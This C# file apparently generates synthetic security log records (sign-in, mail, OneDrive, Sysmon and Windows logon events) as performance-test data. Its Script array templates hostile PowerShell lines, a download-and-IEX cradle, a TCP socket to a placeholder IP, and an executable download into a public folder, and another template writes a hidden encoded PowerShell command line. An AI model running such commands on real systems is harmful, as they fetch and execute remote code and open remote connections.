namespace Weir.Perf.Data;

/// <summary>What stands in <c>_raw</c>, by kind of log.</summary>
internal static class WideText
{
    /// <summary>The script that is hidden in an encoded command, line by line; ASCII.</summary>
    public static readonly Template[] Script =
    [
        new("$w=New-Object Net.WebClient;$a='https://%domain%/%x:8%.ps1';", quoted: false),
        new("%maybe:60%IEX $w.DownloadString($a);", quoted: false),
        new("%maybe:50%$t=New-Object Net.Sockets.TCPClient('%ip?%',%one:port%);", quoted: false),
        new("%maybe:40%Invoke-WebRequest -Uri http://%ip?%/%x:6%.exe -OutFile C:\\Users\\Public\\%x:6%.exe;", quoted: false),
        new("%maybe:20%Send-MailMessage -To %user?% -SmtpServer %domain%;", quoted: false),
    ];

    public static readonly Template SignIn = Raw("""
        {"id":"%guid%","createdDateTime":"%time%Z","userDisplayName":"%account%","userPrincipalName":"%user%","userId":"%guid%","appId":"%guid%","appDisplayName":"%one:app%",
        "ipAddress":"%ip%","clientAppUsed":"Browser","correlationId":"%guid%","conditionalAccessStatus":"%one:access%","isInteractive":%one:truth%,"riskDetail":"none",
        "riskLevelAggregated":"%one:risk%","status":{"errorCode":%one:error%,"failureReason":"%one:reason%","additionalDetails":"MFA requirement satisfied by claim in the token"},
        "deviceDetail":{"deviceId":"%guid%","displayName":"%short%","operatingSystem":"%one:os%","browser":"%one:browser%","isCompliant":%one:truth%,"isManaged":%one:truth%,"trustType":"Azure AD joined"},"tokenIssuerType":"AzureAD",
        "location":{"city":"%one:city%","state":"","countryOrRegion":"%one:country%","geoCoordinates":{"latitude":%n:90%.%n:99999%,"longitude":%n:90%.%n:99999%}},
        "appliedConditionalAccessPolicies":[{"id":"%guid%","displayName":"CA%n:40% - Require MFA \"all\" users","result":"success"}]}
        """);

    public static readonly Template Mail = Raw("""
        {"CreationTime":"%time%","Id":"%guid%","Operation":"%one:mail%","OrganizationId":"%guid%","RecordType":%n:50%,"ResultStatus":"Succeeded","UserKey":"%x:16%","UserType":0,"Version":1,
        "Workload":"Exchange","ClientIP":"%ip%","UserId":"%user%","ClientInfoString":"Client=OWA;Mozilla/5.0 (Windows NT 10.0; Win64; x64)","MailboxOwnerUPN":"%user%",
        "Item":{"Subject":"%one:subject%","InternetMessageId":"<%x:16%@%domain%>","SizeInBytes":%n:4000000%},"Links":["https://%domain%/%one:path%/index.php?id=%x:10%"],"Recipients":["%user?%","%user?%"]}
        """);

    public static readonly Template File = Raw("""
        {"CreationTime":"%time%","Id":"%guid%","Operation":"%one:file%","Workload":"OneDrive","ClientIP":"%ip%","UserId":"%user%",
        "ObjectId":"https://contoso-my.sharepoint.com/personal/%account%/Documents/Project %n:900%/%one:stem% %n:99%.xlsx","SourceFileName":"%one:stem% %n:99%.xlsx",
        "UserAgent":"Microsoft Office Excel/16.0.%n:17000% (Windows/10.0; Desktop x64)","SiteUrl":"https://contoso-my.sharepoint.com/personal/%account%/","ListId":"%guid%","WebId":"%guid%"}
        """);

    public static readonly Template Process = Sysmon(1, """
        <Data Name='UtcTime'>%time%</Data><Data Name='ProcessGuid'>{%guid%}</Data><Data Name='Image'>%one:image%</Data><Data Name='CommandLine'>"%one:image%" %one:switch%</Data>
        <Data Name='User'>CONTOSO\%account%</Data><Data Name='Hashes'>MD5=%md5%,SHA256=%sha%,IMPHASH=%x:16%%x:16%</Data><Data Name='ParentImage'>%one:image%</Data>
        """);

    public static readonly Template Encoded = Sysmon(1, """
        <Data Name='UtcTime'>%time%</Data><Data Name='ProcessGuid'>{%guid%}</Data><Data Name='Image'>%one:image%</Data><Data Name='CommandLine'>powershell.exe -NoP -NonI -W Hidden -%one:flag% %encoded%</Data>
        <Data Name='User'>CONTOSO\%account%</Data><Data Name='Hashes'>MD5=%md5%,SHA256=%sha%</Data><Data Name='ParentImage'>%one:image%</Data>
        """);

    public static readonly Template Network = Sysmon(3, """
        <Data Name='Image'>%one:image%</Data><Data Name='Protocol'>tcp</Data><Data Name='SourceIp'>10.%n:256%.%n:256%.%n:256%</Data><Data Name='SourcePort'>%n:65536%</Data>
        <Data Name='DestinationIp'>%ip%</Data><Data Name='DestinationHostname'>%domain%</Data><Data Name='DestinationPort'>443</Data>
        """);

    public static readonly Template Dns = Sysmon(22, "<Data Name='QueryName'>%domain%</Data><Data Name='QueryResults'>::ffff:%ip?%;</Data><Data Name='Image'>%one:image%</Data>");

    /// <summary>The only kind with line ends inside <c>_raw</c>, as Windows event text has them.</summary>
    public static readonly Template Security = new("""
        %time% LogName=Security
        EventCode=%one:code%
        ComputerName=%host%
        RecordNumber=%n:2000000000%
        TaskCategory=Logon
        Message=An account was "logged on".

        Subject:
        	Security ID:		S-1-5-18
        	Account Name:		%short%$
        	Account Domain:		CONTOSO
        	Logon ID:		0x%x:6%

        Logon Type:			%one:logon%

        New Logon:
        	Security ID:		S-1-5-21-%n:2000000000%-%n:2000000000%-%n:99999%
        	Account Name:		%account%
        	Account Domain:		CONTOSO
        	Logon GUID:		{%guid%}

        Network Information:
        	Workstation Name:	%short%
        	Source Network Address:	%ip%
        	Source Port:		%n:65536%

        Detailed Authentication Information:
        	Logon Process:		Kerberos
        	Authentication Package:	Kerberos
        	Key Length:		0
        """, quoted: true);

    private static Template Sysmon(int id, string data) => Raw($$"""
        <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>{{id}}</EventID><Version>5</Version>
        <Level>4</Level><TimeCreated SystemTime='%time%000Z'/><EventRecordID>%n:2000000000%</EventRecordID><Execution ProcessID='%n:9000%' ThreadID='%n:9000%'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>
        <Computer>%host%</Computer><Security UserID='S-1-5-18'/></System><EventData>{{data}}</EventData></Event>
        """);

    /// <summary>The line ends above are for the reader of this file; these records are single lines.</summary>
    private static Template Raw(string text) => new(text.ReplaceLineEndings(""), quoted: true);
}
